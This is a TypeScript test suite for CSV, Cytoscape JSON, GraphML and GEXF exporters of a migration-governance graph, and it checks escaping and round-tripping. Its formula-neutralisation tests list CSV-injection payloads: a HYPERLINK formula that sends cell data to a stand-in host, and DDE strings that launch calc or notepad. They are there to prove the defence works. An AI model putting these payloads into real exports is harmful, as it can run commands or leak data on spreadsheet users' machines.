import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import type { GraphEdgeRecord, GraphNodeRecord, GraphRecord } from '../../src/db/records';
import { EDGE_ATTRIBUTES, NODE_ATTRIBUTES } from '../../src/http/export/attributes';
import { csvField, edgesCsv, neutraliseFormula, nodesCsv } from '../../src/http/export/csv';
import { toCytoscapeJson } from '../../src/http/export/cytoscapeJson';
import { toGexf } from '../../src/http/export/gexf';
import { toGraphML } from '../../src/http/export/graphml';
import { escapeXmlAttribute, escapeXmlText } from '../../src/http/export/xml';

/**
 * The serialisers are checked by parsing what they write, with a parser of their own (an XML
 * parser, an RFC 4180 reader written here), on names and excerpts that hold every character
 * that has broken an export somewhere: commas, quotes, line breaks, markup, non-Latin letters,
 * characters outside the BMP and control characters.
 */

const NASTY = 'Göç İdaresi, "the <PMM>" & co\'s\nsecond line 🚀';

function node(overrides: Partial<GraphNodeRecord> & { id: string }): GraphNodeRecord {
  return {
    name: overrides.id,
    type: 'Organisation',
    labels: ['Organisation'],
    acronym: null,
    kind: null,
    status: null,
    startDate: null,
    endDate: null,
    isoCode: null,
    jurisdiction: null,
    year: null,
    degree: 0,
    ...overrides,
  };
}

function edge(overrides: Partial<GraphEdgeRecord> & { source: string; target: string; type: string }): GraphEdgeRecord {
  return { id: `${overrides.source}-${overrides.type}-${overrides.target}`, role: null, title: null, date: null, evidence: [], ...overrides };
}

const GRAPH: GraphRecord = {
  truncated: false,
  nodes: [
    node({ id: 'org:dgmm', name: NASTY, acronym: 'DGMM', kind: 'GOVERNMENT', labels: ['Donor', 'Organisation'], degree: 12 }),
    node({ id: 'project:p-tip', name: 'P-TIP, Turkey', type: 'Project', labels: ['Project'], status: 'ONGOING', startDate: '2017-05-15', endDate: '2018-09-30', degree: 6 }),
    node({ id: 'country:TR', name: 'Türkiye', type: 'Country', labels: ['Country'], isoCode: 'TR', degree: 40 }),
    node({ id: 'lf:law-6458', name: 'Law on Foreigners\u0001 and International Protection', type: 'LegalFramework', labels: ['LegalFramework'], kind: 'LAW', jurisdiction: 'TR', year: 2013 }),
  ],
  edges: [
    edge({
      source: 'project:p-tip',
      target: 'org:dgmm',
      type: 'BENEFITS',
      role: 'beneficiary, "in particular"',
      evidence: [
        { document: '002_5ad14045ceff5a29.txt', excerpt: 'in particular the Directorate General of Migration Management (DGMM), to fight <all> forms\r\nof "TIP"' },
        { document: 'curated-pmm-2021', excerpt: 'A second, shorter excerpt.' },
      ],
    }),
    edge({ source: 'project:p-tip', target: 'country:TR', type: 'IN_COUNTRY', evidence: [{ document: 'doc.txt', excerpt: 'Türkiye' }] }),
    edge({ source: 'org:dgmm', target: 'country:TR', type: 'SUCCEEDED_BY', date: '2021-01-01' }),
  ],
};

/** Reads RFC 4180 CSV: quoted fields may hold commas, doubled quotes and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (ch === '\n') throw new Error(`A bare line feed outside quotes at ${i}: records must end with CRLF`);
    else field += ch;
  }
  if (quoted) throw new Error('Unterminated quoted field');
  if (field !== '' || row.length > 0) throw new Error('The last record does not end with CRLF');
  return rows;
}

function records(text: string): Array<Record<string, string>> {
  const [header, ...rows] = readCsv(text);
  return rows.map((row) => {
    expect(row).toHaveLength(header!.length);
    return Object.fromEntries(header!.map((name, i) => [name, row[i]!]));
  });
}

const xmlParser = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '',
  parseTagValue: false,
  parseAttributeValue: false,
  trimValues: false,
  htmlEntities: true,
  // `key` names both GraphML's <key> element and <data>'s attribute: only elements are lists.
  isArray: (name: string, _path: unknown, _leaf: boolean, isAttribute: boolean) => !isAttribute && ['key', 'node', 'edge', 'data', 'attribute', 'attvalue', 'attributes'].includes(name),
});

type XmlElement = Record<string, unknown>;

/** Checks what the lenient validator does not: no raw control characters and no `<` inside an attribute. */
function expectWellFormed(xml: string): void {
  expect(XMLValidator.validate(xml)).toBe(true);
  expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
  for (const match of xml.matchAll(/="([^"]*)"/g)) expect(match[1]).not.toMatch(/[<\n\r\t]/);
}

describe('csvField', () => {
  it('leaves plain values alone and writes a missing value as an empty field', () => {
    expect(csvField('org:dgmm')).toBe('org:dgmm');
    expect(csvField(12)).toBe('12');
    expect(csvField(null)).toBe('');
  });

  it('quotes commas, quotes, line breaks and edge spaces, doubling the quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvField(' padded')).toBe('" padded"');
  });
});

/** What a spreadsheet would read as the start of a formula (OWASP, "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Payloads from OWASP's CSV injection page and the probe of issue 18. */
const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1+1',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '=cmd|\' /C notepad\'!\'A1\'',
];

describe('CSV formula neutralisation', () => {
  it('puts a single quote before text that a spreadsheet would run, and quotes the field', () => {
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(csvField('=1+1')).toBe('"\'=1+1"');
    expect(csvField('@SUM(1)')).toBe('"\'@SUM(1)"');
    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    for (const formula of FORMULAS) expect(csvField(formula)).toBe(`"'${formula.replace(/"/g, '""')}"`);
  });

  it('leaves text alone whose formula characters are not at the start, and writes numbers, negative ones too, as numbers', () => {
    expect(csvField('P-TIP, Turkey')).toBe('"P-TIP, Turkey"');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('info@example.org')).toBe('info@example.org');
    expect(csvField(-3)).toBe('-3');
    expect(csvField(2013)).toBe('2013');
    // Text that looks like a negative number is text, and may be a formula: it is neutralised.
    expect(csvField('-3')).toBe('"\'-3"');
    expect(csvField(Number.NEGATIVE_INFINITY)).toBe('"\'-Infinity"');
  });

  it('leaves no cell of either file beginning with a formula character, in any column, read back by csv-parse', () => {
    const hostile: GraphRecord = {
      truncated: false,
      nodes: FORMULAS.map((formula, i) =>
        // `type` and `status` are typed to their few values; every free-text column carries the formula.
        node({ id: `org:f${i}`, name: formula, acronym: formula, kind: formula, startDate: formula, endDate: formula, isoCode: formula, jurisdiction: formula, labels: [formula], year: -i }),
      ),
      edges: FORMULAS.map((formula, i) =>
        edge({ id: formula, source: formula, target: `org:f${i}`, type: formula, role: formula, title: formula, date: formula, evidence: [{ document: formula, excerpt: formula }] }),
      ),
    };
    for (const text of [nodesCsv(hostile), edgesCsv(hostile)]) {
      const rows = parseCsv(text, { relax_quotes: false, skip_empty_lines: false }) as string[][];
      expect(rows.length).toBe(FORMULAS.length + 1);
      for (const row of rows) {
        expect(row.length).toBe(rows[0]!.length);
        // `year` is a number (0, -1, ...): a number is written as one, so only text cells are checked.
        for (const cell of row) if (!/^-?\d+$/.test(cell)) expect({ cell, formula: FORMULA_START.test(cell) }).toEqual({ cell, formula: false });
      }
    }
    const labels = (parseCsv(nodesCsv(hostile), { columns: true }) as Array<Record<string, string>>).map((r) => r.label);
    expect(labels).toEqual(FORMULAS.map((formula) => `'${formula}`));
    const roles = (parseCsv(edgesCsv(hostile), { columns: true }) as Array<Record<string, string>>).map((r) => r.role);
    expect(roles).toEqual(FORMULAS.map((formula) => `'${formula}`));
  });
});

describe('nodesCsv and edgesCsv', () => {
  it('write a header row and one record per node that reads back to the same values', () => {
    const rows = records(nodesCsv(GRAPH));
    expect(readCsv(nodesCsv(GRAPH))[0]).toEqual(['id', ...NODE_ATTRIBUTES.map((a) => a.name)]);
    expect(rows.map((r) => r.id)).toEqual(GRAPH.nodes.map((n) => n.id));
    expect(rows[0]).toMatchObject({ label: NASTY, type: 'Organisation', labels: 'Donor;Organisation', acronym: 'DGMM', degree: '12', status: '' });
    expect(rows[1]).toMatchObject({ label: 'P-TIP, Turkey', status: 'ONGOING', startDate: '2017-05-15', endDate: '2018-09-30' });
    expect(rows[3]).toMatchObject({ year: '2013', jurisdiction: 'TR' });
  });

  it('write each edge with its evidence as JSON that parses back to the excerpts', () => {
    const text = edgesCsv(GRAPH);
    expect(readCsv(text)[0]).toEqual(['id', 'source', 'target', ...EDGE_ATTRIBUTES.map((a) => a.name)]);
    const rows = records(text);
    expect(rows).toHaveLength(GRAPH.edges.length);
    expect(rows[0]).toMatchObject({ source: 'project:p-tip', target: 'org:dgmm', type: 'BENEFITS', role: 'beneficiary, "in particular"', evidenceCount: '2' });
    expect(rows[0]!.evidenceDocuments).toBe('002_5ad14045ceff5a29.txt;curated-pmm-2021');
    expect(JSON.parse(rows[0]!.evidence!)).toEqual(GRAPH.edges[0]!.evidence);
    expect(rows[2]).toMatchObject({ type: 'SUCCEEDED_BY', date: '2021-01-01', evidenceCount: '0', evidence: '[]' });
  });

  it('write only the header for an empty graph', () => {
    expect(readCsv(nodesCsv({ nodes: [], edges: [], truncated: false }))).toHaveLength(1);
  });
});

describe('toCytoscapeJson', () => {
  it('writes Cytoscape.js elements whose data hold id, label, type, the drawable properties and the evidence', () => {
    const doc = JSON.parse(JSON.stringify(toCytoscapeJson(GRAPH))) as ReturnType<typeof toCytoscapeJson>;
    expect(doc.elements.nodes).toHaveLength(4);
    expect(doc.elements.nodes[0]!.data).toMatchObject({ id: 'org:dgmm', label: NASTY, name: NASTY, type: 'Organisation', labels: ['Donor', 'Organisation'], acronym: 'DGMM', degree: 12 });
    expect(doc.elements.nodes[1]!.data).toMatchObject({ status: 'ONGOING', startDate: '2017-05-15' });
    expect(doc.elements.edges[0]!.data).toEqual({
      id: 'project:p-tip-BENEFITS-org:dgmm',
      source: 'project:p-tip',
      target: 'org:dgmm',
      type: 'BENEFITS',
      label: 'BENEFITS',
      role: 'beneficiary, "in particular"',
      title: null,
      date: null,
      evidence: GRAPH.edges[0]!.evidence,
    });
    expect(doc.data).toEqual({ title: 'Migration governance graph', truncated: false, nodeCount: 4, edgeCount: 3 });
  });

  it('says when the graph was truncated', () => {
    expect(toCytoscapeJson({ ...GRAPH, truncated: true }).data.truncated).toBe(true);
  });
});

describe('escapeXml', () => {
  it('escapes markup in text and quotes and line breaks in attributes', () => {
    expect(escapeXmlText('a < b & c > d')).toBe('a &lt; b &amp; c &gt; d');
    expect(escapeXmlAttribute('say "hi"\nthen\tgo\r')).toBe('say &quot;hi&quot;&#10;then&#9;go&#13;');
  });

  it('drops characters XML cannot carry and keeps characters outside the BMP', () => {
    expect(escapeXmlText('a\u0000b\u0008c\u001Fd\uFFFEe')).toBe('abcde');
    expect(escapeXmlText('lone \uD800 surrogate')).toBe('lone  surrogate');
    expect(escapeXmlText('rocket 🚀')).toBe('rocket 🚀');
  });
});

describe('toGraphML', () => {
  const xml = toGraphML(GRAPH);
  const root = xmlParser.parse(xml) as { graphml: { key: XmlElement[]; graph: { node: XmlElement[]; edge: XmlElement[]; data: XmlElement[]; edgedefault: string } } };

  it('is well-formed XML in the GraphML namespace', () => {
    expectWellFormed(xml);
    expect(xml).toContain('xmlns="http://graphml.graphdrawing.org/xmlns"');
    expect(root.graphml.graph.edgedefault).toBe('directed');
  });

  it('declares a typed key for every node and edge attribute, and uses no other', () => {
    const keys = root.graphml.key;
    for (const a of NODE_ATTRIBUTES) expect(keys).toContainEqual(expect.objectContaining({ id: `n_${a.name}`, for: 'node', 'attr.name': a.name }));
    for (const a of EDGE_ATTRIBUTES) expect(keys).toContainEqual(expect.objectContaining({ id: `e_${a.name}`, for: 'edge', 'attr.name': a.name }));
    expect(keys.find((k) => k.id === 'n_degree')?.['attr.type']).toBe('int');
    const declared = new Set(keys.map((k) => k.id));
    const used = [...root.graphml.graph.node, ...root.graphml.graph.edge].flatMap((e) => ((e.data as XmlElement[] | undefined) ?? []).map((d) => d.key));
    expect(used.filter((key) => !declared.has(String(key)))).toEqual([]);
  });

  it('carries every node and edge with values that read back unchanged', () => {
    const nodes = root.graphml.graph.node;
    expect(nodes.map((n) => n.id)).toEqual(GRAPH.nodes.map((n) => n.id));
    const value = (element: XmlElement, key: string) => (element.data as XmlElement[]).find((d) => d.key === key)?.['#text'];
    expect(value(nodes[0]!, 'n_label')).toBe(NASTY);
    expect(value(nodes[3]!, 'n_label')).toBe('Law on Foreigners and International Protection');
    expect(value(nodes[0]!, 'n_status')).toBeUndefined(); // unknown: no <data> at all
    const edges = root.graphml.graph.edge;
    expect(edges.map((e) => [e.source, e.target])).toEqual(GRAPH.edges.map((e) => [e.source, e.target]));
    expect(JSON.parse(String(value(edges[0]!, 'e_evidence')))).toEqual(GRAPH.edges[0]!.evidence);
    expect(value(edges[2]!, 'e_date')).toBe('2021-01-01');
  });

  it('records whether the graph was truncated', () => {
    const data = (xmlParser.parse(toGraphML({ ...GRAPH, truncated: true })) as typeof root).graphml.graph.data;
    expect(data.find((d) => d.key === 'g_truncated')?.['#text']).toBe('true');
  });
});

describe('toGexf', () => {
  const xml = toGexf(GRAPH);
  const root = xmlParser.parse(xml) as {
    gexf: { version: string; graph: { defaultedgetype: string; attributes: XmlElement[]; nodes: { node: XmlElement[] }; edges: { edge: XmlElement[] } } };
  };
  const values = (element: XmlElement) =>
    Object.fromEntries((((element.attvalues as XmlElement | undefined)?.attvalue as XmlElement[] | undefined) ?? []).map((v) => [v.for, v.value]));

  it('is well-formed GEXF 1.3 for a static directed graph', () => {
    expectWellFormed(xml);
    expect(xml).toContain('xmlns="http://gexf.net/1.3"');
    expect(root.gexf.version).toBe('1.3');
    expect(root.gexf.graph.defaultedgetype).toBe('directed');
  });

  it('declares node and edge attributes with GEXF types, and uses no other', () => {
    const byClass: Record<string, XmlElement[]> = Object.fromEntries(root.gexf.graph.attributes.map((a) => [a.class, a.attribute as XmlElement[]]));
    expect(byClass.node!.map((a) => a.id)).toEqual(NODE_ATTRIBUTES.filter((a) => a.name !== 'label').map((a) => a.name));
    expect(byClass.edge!.map((a) => a.id)).toEqual(EDGE_ATTRIBUTES.map((a) => a.name));
    expect(byClass.node!.find((a) => a.id === 'year')?.type).toBe('integer');
    const declared = new Set([...byClass.node!, ...byClass.edge!].map((a) => a.id));
    const used = [...root.gexf.graph.nodes.node, ...root.gexf.graph.edges.edge].flatMap((e) => Object.keys(values(e)));
    expect(used.filter((id) => !declared.has(id))).toEqual([]);
  });

  it('keeps names, line breaks and evidence intact through attribute escaping', () => {
    const nodes = root.gexf.graph.nodes.node;
    expect(nodes[0]).toMatchObject({ id: 'org:dgmm', label: NASTY });
    expect(values(nodes[0]!)).toMatchObject({ type: 'Organisation', acronym: 'DGMM', degree: '12' });
    const edges = root.gexf.graph.edges.edge;
    expect(edges[0]).toMatchObject({ source: 'project:p-tip', target: 'org:dgmm', label: 'BENEFITS' });
    expect(JSON.parse(String(values(edges[0]!).evidence))).toEqual(GRAPH.edges[0]!.evidence);
  });
});
